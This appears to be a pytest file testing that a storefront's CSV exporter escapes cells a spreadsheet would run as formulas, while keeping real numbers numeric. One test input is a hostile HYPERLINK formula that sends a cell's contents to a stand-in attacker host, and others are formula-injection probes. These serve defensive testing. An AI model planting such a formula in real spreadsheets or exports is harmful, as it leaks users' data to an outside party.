"""The CSV writer escapes text a spreadsheet would run as a formula and keeps numbers numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from storefront.csv_export import CsvWriter, safe_cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?d="&D3,"klik")',
            '\'=HYPERLINK("https://evil.example/?d="&D3,"klik")',
        ),
        ("+6281234567890", "'+6281234567890"),
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),  # typed text that looks like a number is still text
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rcmd", "'\rcmd"),
        ("  =1+1", "'  =1+1"),
        ("Kopi Robusta 250 g", "Kopi Robusta 250 g"),
        ("Rp25.000", "Rp25.000"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-12_500, -12_500),
        (0, 0),
        (Decimal("-1.5"), Decimal("-1.5")),
        (date(2026, 10, 31), "2026-10-31"),
        (True, "1"),
    ],
)
def test_a_cell_is_text_a_spreadsheet_will_not_run(value, written):
    assert safe_cell(value) == written


def test_negative_amounts_stay_numbers_in_the_file():
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(["refund", -12_500, "-12500"])
    assert out.getvalue() == "refund,-12500,'-12500\r\n"


def test_the_byte_order_mark_comes_first_and_only_once():
    out = io.StringIO()
    writer = CsvWriter(out, byte_order_mark=True)
    writer.writerow(["=1+1"])
    writer.writerow(["x"])
    text = out.getvalue()
    assert text.startswith("\ufeff") and text.count("\ufeff") == 1
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [["'=1+1"], ["x"]]
